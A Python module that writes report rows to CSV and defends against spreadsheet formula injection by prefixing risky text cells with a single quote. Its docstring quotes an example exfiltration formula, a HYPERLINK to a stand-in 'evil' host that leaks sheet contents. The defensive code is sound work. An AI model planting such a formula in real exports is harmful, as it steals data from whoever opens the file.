"""CSV exports that a spreadsheet opens as data, never as formulas.

A report's rows carry text people typed (a campaign named in a public form post, a rep's
note): a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1, "..")``
leaks the sheet when clicked). As OWASP's "CSV Injection" page advises, such a text cell is
prefixed with a single quote, which the spreadsheet shows as text; numbers stay numbers (a
negative ROI is a number, not a formula).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as written: text that would start a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def to_csv(rows: Iterable[Mapping[str, Any]]) -> str:
    """Rows as CSV; the header is the union of keys in first-seen order; ``None`` is empty.

    Header names pass through ``neutralise`` too: a JSON property key can be user text."""
    materialised = list(rows)
    columns: list[str] = []
    for row in materialised:
        for key in row:
            if key not in columns:
                columns.append(key)
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([neutralise(c) for c in columns])
    for row in materialised:
        writer.writerow([neutralise("" if row.get(c) is None else row.get(c)) for c in columns])
    return buf.getvalue()
